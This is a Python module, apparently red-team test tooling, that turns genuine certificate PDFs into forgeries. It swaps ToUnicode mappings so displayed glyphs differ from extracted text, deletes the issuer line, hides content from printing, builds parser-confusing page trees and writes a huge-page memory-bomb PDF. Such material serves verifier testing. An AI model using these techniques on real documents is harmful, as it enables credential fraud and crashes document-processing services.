"""A forger's toolkit for certificate PDFs (from the red-team review): each function takes a
genuine certificate and returns the bytes of a forged one that keeps its signed parts intact."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    ContentStream,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

Ops = list[tuple[list, bytes]]


def _tounicode(font) -> dict[int, str]:  # type: ignore[no-untyped-def]
    data = font["/ToUnicode"].get_object().get_data().decode("latin-1")
    out = {}
    for block in re.findall(r"beginbfchar(.*?)endbfchar", data, re.S):
        out.update({int(c, 16): bytes.fromhex(u).decode("utf-16-be")
                    for c, u in re.findall(r"<([0-9A-Fa-f]{2})>\s*<([0-9A-Fa-f]+)>", block)})
    return out


def _blocks(writer: PdfWriter) -> tuple[Ops, list[tuple[int, int, str, str]]]:
    """The page's operations, and each BT..ET block as (start, end, font name, text read)."""
    page = writer.pages[0]
    fonts = page["/Resources"]["/Font"]
    ops = ContentStream(page.get_contents(), writer).operations
    blocks, start, font, text = [], None, None, ""
    for i, (operands, op) in enumerate(ops):
        if op == b"BT":
            start, text = i, ""
        elif op == b"Tf":
            font = str(operands[0])
        elif op in (b"Tj", b"TJ") and font is not None:
            cmap = _tounicode(fonts[font].get_object())
            strings = operands[0] if op == b"TJ" else [operands[0]]
            for s in strings:
                if isinstance(s, bytes | str):
                    raw = s if isinstance(s, bytes) else s.original_bytes
                    text += "".join(cmap.get(b, "?") for b in raw)
        elif op == b"ET" and start is not None:
            blocks.append((start, i, font or "", text))
    return ops, blocks


def _set_ops(writer: PdfWriter, ops: Ops) -> None:
    stream = ContentStream(None, writer)
    stream.operations = ops
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)


def _edit(src: bytes, fn: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(src)))
    fn(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def find_line(writer: PdfWriter, text: str) -> tuple[Ops, int, int, str]:
    ops, blocks = _blocks(writer)
    for start, end, font, read in blocks:
        if read.casefold() == text.casefold():
            return ops, start, end, font
    raise AssertionError(f"{text!r} not drawn in one block; blocks: {[b[3] for b in blocks]}")


def swap_letters(src: bytes, name: str, a: str, b: str) -> bytes:
    """Keep the glyphs, swap what two of the name font's codes *read as* (ToUnicode)."""
    def fn(writer: PdfWriter) -> None:
        _, _, _, font_name = find_line(writer, name)
        font = writer.pages[0]["/Resources"]["/Font"][font_name].get_object()
        data = font["/ToUnicode"].get_object().get_data()
        ua, ub = f"<{ord(a):04X}>".encode(), f"<{ord(b):04X}>".encode()
        data = data.replace(ua, b"<TMP>").replace(ub, ua).replace(b"<TMP>", ub)
        stream = DecodedStreamObject()
        stream.set_data(data)
        font[NameObject("/ToUnicode")] = writer._add_object(stream)

    return _edit(src, fn)


def tounicode_lie(src: bytes, name: str, shown: str) -> bytes:
    """Redraw the name line in Times-Roman showing ``shown`` while ToUnicode reads ``name``."""
    def fn(writer: PdfWriter) -> None:
        ops, start, end, _ = find_line(writer, name)
        codes = list(range(1, len(shown) + 1))
        reads = list(name) + [" "] * (len(shown) - len(name))
        cmap = ["/CIDInit /ProcSet findresource begin", "12 dict begin", "begincmap",
                "1 begincodespacerange <00> <FF> endcodespacerange", f"{len(codes)} beginbfchar"]
        cmap += [f"<{c:02X}> <{ord(r):04X}>" for c, r in zip(codes, reads, strict=False)]
        cmap += ["endbfchar", "endcmap", "end", "end"]
        tu = DecodedStreamObject()
        tu.set_data("\n".join(cmap).encode())
        glyphs = [NameObject("/" + ("space" if ch == " " else ch)) for ch in shown]
        font = DictionaryObject({
            NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Times-Roman"),
            NameObject("/Encoding"): DictionaryObject({
                NameObject("/Type"): NameObject("/Encoding"),
                NameObject("/Differences"): ArrayObject([NumberObject(1), *glyphs])}),
            NameObject("/ToUnicode"): writer._add_object(tu)})
        writer.pages[0]["/Resources"]["/Font"][NameObject("/FX")] = writer._add_object(font)
        block = ops[start : end + 1]
        new = []
        for operands, op in block:
            if op == b"Tf":
                new.append(([NameObject("/FX"), operands[1]], op))
            elif op in (b"Tj", b"TJ"):
                new.append(([TextStringObject(bytes(codes).decode("latin-1"))], b"Tj"))
            else:
                new.append((operands, op))
        _set_ops(writer, ops[:start] + new + ops[end + 1:])

    return _edit(src, fn)


def drop_line(src: bytes, text: str) -> bytes:
    """The page without one of its lines (e.g. the issuer's name)."""
    def fn(writer: PdfWriter) -> None:
        ops, start, end, _ = find_line(writer, text)
        _set_ops(writer, ops[:start] + ops[end + 1:])

    return _edit(src, fn)


def repeat_line(src: bytes, name: str, times: int) -> bytes:
    """The genuine name line drawn ``times`` times more, a little lower each time."""
    def fn(writer: PdfWriter) -> None:
        ops, start, end, _ = find_line(writer, name)
        block = ops[start : end + 1]
        extra = []
        for i in range(times):
            shift = [FloatObject(v) for v in (1, 0, 0, 1, 0, -(i % 40) * 0.5)]
            extra += [([], b"q"), (shift, b"cm"), *block, ([], b"Q")]
        _set_ops(writer, ops[: end + 1] + extra + ops[end + 1:])

    return _edit(src, fn)


def print_only_layer(src: bytes) -> bytes:
    """The whole page in an optional-content layer that shows on screen and not on paper."""
    def fn(writer: PdfWriter) -> None:
        ocg = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/OCG"), NameObject("/Name"): TextStringObject("screen"),
            NameObject("/Usage"): DictionaryObject({NameObject("/Print"): DictionaryObject(
                {NameObject("/PrintState"): NameObject("/OFF")})})}))
        writer.root_object[NameObject("/OCProperties")] = DictionaryObject({
            NameObject("/OCGs"): ArrayObject([ocg]),
            NameObject("/D"): DictionaryObject({NameObject("/ON"): ArrayObject([ocg])})})
        page = writer.pages[0]
        page["/Resources"][NameObject("/Properties")] = DictionaryObject({NameObject("/oc"): ocg})
        ops = ContentStream(page.get_contents(), writer).operations
        _set_ops(writer, [([NameObject("/OC"), NameObject("/oc")], b"BDC"), *ops, ([], b"EMC")])

    return _edit(src, fn)


def nested_page_tree(src: bytes) -> bytes:
    """A /Page node with /Kids: pypdf, PDFium and poppler each pick a different page to show."""
    def fn(writer: PdfWriter) -> None:
        root = writer.root_object["/Pages"].get_object()
        genuine_ref = root["/Kids"][0]
        genuine = genuine_ref.get_object()
        decoy = DictionaryObject({
            NameObject("/Type"): NameObject("/Page"), NameObject("/Parent"): root.indirect_reference,
            NameObject("/MediaBox"): genuine["/MediaBox"], NameObject("/Resources"): genuine["/Resources"],
            NameObject("/Contents"): genuine["/Contents"], NameObject("/Kids"): ArrayObject([genuine_ref]),
            NameObject("/Count"): NumberObject(1)})
        decoy_ref = writer._add_object(decoy)
        genuine[NameObject("/Parent")] = decoy_ref
        root[NameObject("/Kids")] = ArrayObject([decoy_ref])

    return _edit(src, fn)


def annots_not_a_list(src: bytes) -> bytes:
    return _edit(src, lambda w: w.pages[0].__setitem__(NameObject("/Annots"), NumberObject(5)))


def huge_page(points: float) -> bytes:
    """A tiny, valid PDF whose one page is ``points`` square (a memory bomb for a renderer)."""
    content = b"0 0 m 10 10 l S"
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {points:g} {points:g}] /Contents 4 0 R >>".encode(),
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)
